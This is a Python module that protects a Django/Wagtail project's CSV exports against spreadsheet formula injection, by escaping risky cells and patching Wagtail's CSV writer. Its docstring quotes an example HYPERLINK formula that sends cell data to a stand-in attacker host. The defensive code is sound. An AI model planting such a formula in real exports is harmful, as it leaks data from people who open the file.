"""CSV cells that a spreadsheet never runs as a formula (CSV/formula injection).

A CSV file has no cell types: Excel and LibreOffice run a cell that starts with ``=``, ``+``,
``-`` or ``@`` (and, after a tab or carriage return, whatever follows) as a formula. A person
named ``=HYPERLINK("https://evil.example?"&A1)`` would then leak data from the HR export. Every
CSV this project writes goes through ``csv_safe``: such a text gets a leading apostrophe, which
spreadsheets show as text, the way OWASP recommends. The XLSX exports are safe already (their
text cells are typed as text, see ``competencies.exports`` and Wagtail's ``generate_xlsx_row``).

Wagtail writes the admin listings' CSV (every ``ModelViewSet``/``SnippetViewSet`` with
``list_export``, the reports such as *Site history*, form submissions) through
``SpreadsheetExportMixin.stream_csv``. ``protect_wagtail_csv_exports`` makes that one method use
the safe writer, at start-up, so that no listing can be forgotten.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Mapping
from typing import Any

# What a spreadsheet reads as the start of a formula (tab and CR: after them the next character
# is read as the cell's first).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: text that looks like a formula starts with '."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_safe_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of a row through ``csv_safe``."""
    return [csv_safe(value) for value in row]


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """``csv.DictWriter`` whose every cell (headings too) passes through ``csv_safe``."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: csv_safe(value) for key, value in rowdict.items()})


class SafeWriter:
    """``csv.writer`` whose every cell passes through ``csv_safe``: use this for our own CSVs."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(csv_safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def _safe_stream_csv(self: Any, queryset: Any) -> Iterator[str]:
    """Wagtail's ``SpreadsheetExportMixin.stream_csv`` with the safe writer (same output else)."""
    from wagtail.admin.views.mixins import Echo

    writer = SafeDictWriter(Echo(), fieldnames=self.list_export)
    yield writer.writerow({field: self.get_heading(queryset, field) for field in self.list_export})
    for item in queryset:
        yield self.write_csv_row(writer, self.to_row_dict(item))


def protect_wagtail_csv_exports() -> None:
    """Make every Wagtail admin CSV export write formula-safe cells (idempotent)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    SpreadsheetExportMixin.stream_csv = _safe_stream_csv  # type: ignore[method-assign]
